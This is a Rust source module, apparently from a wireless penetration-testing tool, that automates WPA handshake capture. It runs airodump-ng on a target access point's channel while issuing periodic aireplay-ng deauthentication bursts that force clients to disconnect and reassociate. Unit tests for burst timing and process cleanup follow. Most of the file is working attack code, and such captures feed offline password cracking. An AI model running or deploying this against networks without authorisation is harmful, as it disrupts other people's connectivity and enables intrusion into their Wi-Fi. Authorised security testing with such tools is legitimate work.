//! Handshake capture scheduling.
//!
//! One long-running capture child records the target's channel for the
//! whole session while short, bounded disruption bursts are issued on a
//! fixed period to force clients into reassociating. The two never
//! share state: a slow or failing burst must not delay the recording,
//! and the capture child is stopped exactly once no matter how the loop
//! exits.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use chrono::Local;
use tracing::{debug, info, warn};

use crate::cancel::{check_cancel, CancelFlag};
use crate::error::{Result, WirelessError};
use crate::process::{run_with_timeout, terminate, BoundedRun};
use crate::survey::NetworkRecord;

/// Suffix the capture engine appends to the write base.
pub const ARTIFACT_SUFFIX: &str = "-01.cap";

/// Deauth frames per disruption burst.
const BURST_FRAMES: &str = "10";

/// Capture session configuration.
#[derive(Debug, Clone)]
pub struct CaptureConfig {
    /// Total capture duration.
    pub duration: Duration,
    /// Interval between disruption bursts.
    pub disruption_period: Duration,
    /// Hard bound on a single burst.
    pub burst_timeout: Duration,
}

impl Default for CaptureConfig {
    fn default() -> Self {
        Self {
            duration: Duration::from_secs(60),
            disruption_period: Duration::from_secs(8),
            burst_timeout: Duration::from_secs(5),
        }
    }
}

impl CaptureConfig {
    /// Set the total duration.
    pub fn with_duration(mut self, duration: Duration) -> Self {
        self.duration = duration;
        self
    }
}

/// What a capture session produced.
#[derive(Debug)]
pub struct CaptureReport {
    /// The capture artifact, if the engine wrote one.
    pub artifact: Option<PathBuf>,
    /// Disruption bursts issued.
    pub bursts: u64,
}

/// Replace anything outside `[A-Za-z0-9._-]` so the ESSID is safe in a
/// file name.
pub fn sanitize_essid(essid: &str) -> String {
    essid
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.') {
                c
            } else {
                '_'
            }
        })
        .collect()
}

/// Artifact base path: `<dir>/<sanitized essid>_<stamp>`.
fn artifact_base(dir: &Path, essid: &str, stamp: &str) -> PathBuf {
    dir.join(format!("{}_{}", sanitize_essid(essid), stamp))
}

/// One more burst is due once a new period boundary has elapsed.
fn burst_due(elapsed: Duration, period: Duration, issued: u64) -> bool {
    let period_secs = period.as_secs();
    if period_secs == 0 {
        return false;
    }
    elapsed.as_secs() / period_secs > issued
}

/// The long-running capture child. `stop` is idempotent and also runs
/// from `Drop`, so every exit path stops the child exactly once.
struct CaptureChild {
    child: Child,
    stopped: bool,
}

impl CaptureChild {
    fn spawn(monitor: &str, target: &NetworkRecord, base: &Path) -> Result<Self> {
        let child = Command::new("airodump-ng")
            .args(["-c", &target.channel, "--bssid", &target.bssid, "--write"])
            .arg(base)
            .arg(monitor)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .map_err(|e| {
                WirelessError::capture(format!("failed to start capture process: {}", e))
            })?;
        Ok(Self {
            child,
            stopped: false,
        })
    }

    fn stop(&mut self) {
        if self.stopped {
            return;
        }
        self.stopped = true;
        terminate(&mut self.child);
        debug!("capture process stopped");
    }
}

impl Drop for CaptureChild {
    fn drop(&mut self) {
        self.stop();
    }
}

/// Capture a handshake from `target` on the monitor interface.
///
/// Runs the capture child for the configured duration while issuing one
/// disruption burst per elapsed period. Burst failures and timeouts are
/// logged and swallowed; the next period boundary simply gets its own
/// burst. Cancellation unwinds through here after the child is stopped.
pub fn run_capture(
    monitor: &str,
    target: &NetworkRecord,
    capture_dir: &Path,
    config: &CaptureConfig,
    cancel: Option<&CancelFlag>,
) -> Result<CaptureReport> {
    std::fs::create_dir_all(capture_dir).map_err(|e| {
        WirelessError::capture(format!(
            "failed to create capture directory {}: {}",
            capture_dir.display(),
            e
        ))
    })?;

    let stamp = Local::now().format("%Y%m%d_%H%M%S").to_string();
    let base = artifact_base(capture_dir, &target.essid, &stamp);

    info!(
        essid = %target.essid,
        bssid = %target.bssid,
        channel = %target.channel,
        duration_secs = config.duration.as_secs(),
        "starting handshake capture"
    );

    let mut child = CaptureChild::spawn(monitor, target, &base)?;
    let loop_result = drive_loop(monitor, target, config, cancel);
    child.stop();
    let bursts = loop_result?;

    let artifact = PathBuf::from(format!("{}{}", base.display(), ARTIFACT_SUFFIX));
    if artifact.is_file() {
        info!(artifact = %artifact.display(), "capture completed");
        Ok(CaptureReport {
            artifact: Some(artifact),
            bursts,
        })
    } else {
        warn!("capture process wrote no artifact");
        Ok(CaptureReport {
            artifact: None,
            bursts,
        })
    }
}

/// Tick at one-second granularity for the configured duration, issuing
/// bursts at period boundaries. Returns the number of bursts issued.
fn drive_loop(
    monitor: &str,
    target: &NetworkRecord,
    config: &CaptureConfig,
    cancel: Option<&CancelFlag>,
) -> Result<u64> {
    let start = Instant::now();
    let mut issued: u64 = 0;

    while start.elapsed() < config.duration {
        check_cancel(cancel)?;

        if burst_due(start.elapsed(), config.disruption_period, issued) {
            issued += 1;
            info!(burst = issued, "sending disruption burst");
            issue_burst(monitor, target, config.burst_timeout);
        }

        let remaining = config.duration.saturating_sub(start.elapsed());
        std::thread::sleep(Duration::from_secs(1).min(remaining));
    }

    Ok(issued)
}

/// One bounded deauth burst. Best-effort: a timeout or failure waits
/// for the next period boundary instead of retrying.
fn issue_burst(monitor: &str, target: &NetworkRecord, timeout: Duration) {
    let mut cmd = Command::new("aireplay-ng");
    cmd.args(["--deauth", BURST_FRAMES, "-a", &target.bssid, monitor])
        .stdout(Stdio::null())
        .stderr(Stdio::null());

    match run_with_timeout(&mut cmd, timeout) {
        Ok(BoundedRun::Completed { success: true }) => {}
        Ok(BoundedRun::Completed { success: false }) => {
            debug!("disruption burst exited with failure status");
        }
        Ok(BoundedRun::TimedOut) => {
            warn!("disruption burst timed out, waiting for next period");
        }
        Err(e) => {
            warn!("disruption burst failed: {}", e);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::survey::Encryption;

    fn sample_target() -> NetworkRecord {
        NetworkRecord {
            bssid: "AA:BB:CC:DD:EE:FF".to_string(),
            channel: "6".to_string(),
            essid: "TestNet".to_string(),
            encryption: Encryption::Wpa2,
        }
    }

    #[test]
    fn sanitize_keeps_safe_characters() {
        assert_eq!(sanitize_essid("Home-Net_2.4"), "Home-Net_2.4");
        assert_eq!(sanitize_essid("Caf\u{e9} WiFi!"), "Caf__WiFi_");
        assert_eq!(sanitize_essid("a b/c"), "a_b_c");
    }

    #[test]
    fn artifact_base_is_deterministic() {
        let base = artifact_base(Path::new("/tmp/caps"), "My Net", "20240101_120000");
        assert_eq!(
            base,
            PathBuf::from("/tmp/caps/My_Net_20240101_120000")
        );
    }

    #[test]
    fn full_run_issues_floor_d_over_p_bursts() {
        // Simulate the tick loop: 60s duration, 8s period => 7 bursts.
        let period = Duration::from_secs(8);
        let mut issued = 0u64;
        let mut boundaries = Vec::new();
        for second in 0..60u64 {
            if burst_due(Duration::from_secs(second), period, issued) {
                issued += 1;
                boundaries.push(second);
            }
        }
        assert_eq!(issued, 7);
        assert_eq!(boundaries, vec![8, 16, 24, 32, 40, 48, 56]);
    }

    #[test]
    fn bursts_are_separated_by_at_least_one_period() {
        let period = Duration::from_secs(8);
        let mut issued = 0u64;
        let mut last: Option<u64> = None;
        for second in 0..600u64 {
            if burst_due(Duration::from_secs(second), period, issued) {
                if let Some(prev) = last {
                    assert!(second - prev >= period.as_secs());
                }
                last = Some(second);
                issued += 1;
            }
        }
    }

    #[test]
    fn zero_period_never_bursts() {
        assert!(!burst_due(Duration::from_secs(100), Duration::ZERO, 0));
    }

    #[test]
    fn no_burst_before_first_boundary() {
        let period = Duration::from_secs(8);
        for second in 0..8u64 {
            assert!(!burst_due(Duration::from_secs(second), period, 0));
        }
    }

    #[test]
    fn capture_child_stop_is_idempotent() {
        // A plain sleep stands in for the capture engine.
        let child = Command::new("sleep")
            .arg("30")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        let Ok(child) = child else {
            return; // no sleep binary on this host
        };

        let mut capture = CaptureChild {
            child,
            stopped: false,
        };
        capture.stop();
        assert!(capture.stopped);
        capture.stop();
        // Drop runs stop a third time; it must be a no-op.
        drop(capture);
    }

    #[test]
    fn cancelled_loop_reports_cancellation() {
        let flag = crate::cancel::new_cancel_flag();
        flag.store(true, std::sync::atomic::Ordering::Relaxed);
        let config = CaptureConfig::default();
        let err = drive_loop("mon0", &sample_target(), &config, Some(&flag))
            .expect_err("set flag should cancel the loop");
        assert!(err.is_cancelled());
    }
}
